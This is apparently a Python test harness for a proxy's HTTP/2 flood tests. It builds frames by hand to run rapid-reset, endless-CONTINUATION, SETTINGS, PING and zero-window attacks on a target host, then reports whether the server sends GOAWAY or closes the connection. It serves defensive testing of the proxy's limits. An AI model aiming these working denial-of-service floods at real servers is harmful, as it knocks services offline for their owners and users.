"""Hostile HTTP/2 clients for proxy/tests/floods.rs, written frame by frame.

usage: h2attack.py MODE HOST PORT DEADLINE_SECS REPEAT_SECS
MODE: burst | paced | continuation | settings | ping | zerowindow

Attacks one connection until the server sends GOAWAY and closes it, or until
DEADLINE_SECS; then a new one, for REPEAT_SECS (at least one connection).
Prints one JSON line: what the server did to the connections, and when.
"""

import json
import os
import socket
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4


def frame(kind, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload


class Conn:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=5)
        # Short timeouts so neither side blocks past the deadline.
        self.sock.settimeout(0.5)
        self.end = None
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.goaway = None  # (error code, seconds since start)
        self.closed = None  # seconds since start
        self.frames = 0
        self.start = time.monotonic()
        self.polite = True  # ack SETTINGS and PING like a real client

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def reader(self):
        buf = b""
        try:
            while True:
                try:
                    chunk = self.sock.recv(65536)
                except socket.timeout:
                    if time.monotonic() < self.end:
                        continue
                    return
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    kind, flags, payload = buf[3], buf[4], buf[9 : 9 + n]
                    buf = buf[9 + n :]
                    self.frames += 1
                    if kind == GOAWAY and self.goaway is None:
                        code = int.from_bytes(payload[4:8], "big")
                        self.goaway = (code, time.monotonic() - self.start)
                    elif self.polite and kind == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
                    elif self.polite and kind == PING and not flags & ACK:
                        self.send(frame(PING, ACK, 0, payload))
        except OSError:
            pass
        self.closed = time.monotonic() - self.start


def request_block(enc, authority):
    return enc.encode(
        [(":method", "GET"), (":scheme", "http"), (":path", "/flood"), (":authority", authority)]
    )


def attack(mode, host, port, deadline):
    settings = b""
    if mode == "zerowindow":
        # SETTINGS_INITIAL_WINDOW_SIZE = 0: no response DATA may ever be sent.
        settings = (4).to_bytes(2, "big") + (0).to_bytes(4, "big")
    try:
        c = Conn(host, port)
        c.end = time.monotonic() + deadline + 1
        c.send(PREFACE + frame(SETTINGS, 0, 0, settings))
    except OSError:
        # Reset before the first frame: the server refused this (penalized) address.
        return {"goaway_code": None, "closed_secs": 0.0, "streams": 0, "frames_sent": 0, "refused": True}
    t = threading.Thread(target=c.reader, daemon=True)
    t.start()
    enc = hpack.Encoder()
    authority = f"{host}:{port}"
    streams = 0
    sent = 0
    end = time.monotonic() + deadline
    sid = 1
    try:
        if mode == "zerowindow":
            c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(enc, authority)))
            streams = 1
        elif mode == "continuation":
            # A header block that never ends: HEADERS without END_HEADERS, then
            # CONTINUATION frames of literal headers forever.
            lit = hpack.Encoder().encode([("x-flood", "a" * 1000)])
            c.send(frame(HEADERS, 0, 1, request_block(enc, authority)))
            streams = 1
        while c.closed is None and time.monotonic() < end:
            if mode in ("burst", "paced"):
                batch = 1000 if mode == "burst" else 30
                out = []
                for _ in range(batch):
                    out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(enc, authority)))
                    out.append(frame(RST, 0, sid, (8).to_bytes(4, "big")))  # CANCEL
                    sid += 2
                c.send(b"".join(out))
                streams += batch
                if mode == "paced":
                    time.sleep(0.001)
            elif mode == "continuation":
                c.send(frame(CONT, 0, 1, lit) * 16)
                sent += 16
            elif mode == "settings":
                c.send(frame(SETTINGS, 0, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big")) * 100)
                sent += 100
            elif mode == "ping":
                c.send(frame(PING, 0, 0, b"12345678") * 100)
                sent += 100
            else:  # zerowindow: say nothing more, never open the window
                time.sleep(0.05)
    except socket.timeout:
        pass  # the server stopped reading: wait for it to close
    except OSError:
        pass  # the server closed the connection under us
    # The server may have stopped reading: give its close a moment to arrive.
    t.join(timeout=max(0.0, end - time.monotonic()) + 1)
    return {
        "goaway_code": c.goaway[0] if c.goaway else None,
        "closed_secs": round(c.closed, 3) if c.closed is not None else None,
        "streams": streams,
        "frames_sent": sent,
        # Reset before the server wrote a single byte: refused at accept.
        "refused": c.frames == 0 and c.closed is not None and c.closed < 0.5,
    }


def main():
    # Lowest priority: the attacker stands for another machine; on a small test
    # machine it should not win the CPU from the sidecar it attacks.
    os.nice(19)
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    deadline, repeat = float(sys.argv[4]), float(sys.argv[5])
    until = time.monotonic() + repeat
    runs = [attack(mode, host, port, deadline)]
    while time.monotonic() < until and runs[-1]["closed_secs"] is not None:
        runs.append(attack(mode, host, port, deadline))
    closed = [r["closed_secs"] for r in runs if r["closed_secs"] is not None]
    print(
        json.dumps(
            {
                "mode": mode,
                "connections": len(runs),
                "closed": len(closed),
                "max_closed_secs": max(closed) if closed else None,
                "goaways": len([r for r in runs if r["goaway_code"] is not None]),
                "goaway_codes": sorted({r["goaway_code"] for r in runs if r["goaway_code"] is not None}),
                "streams": sum(r["streams"] for r in runs),
                "frames_sent": sum(r["frames_sent"] for r in runs),
                "refused": len([r for r in runs if r["refused"]]),
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
